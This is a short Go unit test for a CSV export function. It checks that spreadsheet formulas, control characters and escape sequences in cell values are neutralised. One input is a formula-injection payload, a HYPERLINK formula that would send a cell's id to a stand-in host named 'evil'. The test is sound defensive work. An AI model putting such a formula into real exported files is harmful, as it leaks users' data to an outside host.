package local

import "testing"

// A table with own ids leaves these unchanged, and contains no text by others that a spreadsheet
// would evaluate: it could send the ids away.
func TestOwnTablesHoldNoFormulas(t *testing.T) {
	got, err := asCSV(1, []string{"id", `=HYPERLINK("http://evil/?"&A1)`}, [][]string{{"=7", "@SUM(A1)"}, {"-x", "-0.5"}, {"é\u202e", "a\x1b[2J"}})
	const want = "id,\"'=HYPERLINK(\"\"http://evil/?\"\"&A1)\"\n=7,'@SUM(A1)\n-x,-0.5\né\u202e,a\\u001b[2J\n"
	if err != nil || string(got) != want {
		t.Errorf("%q (%v), want %q", got, err, want)
	}
}
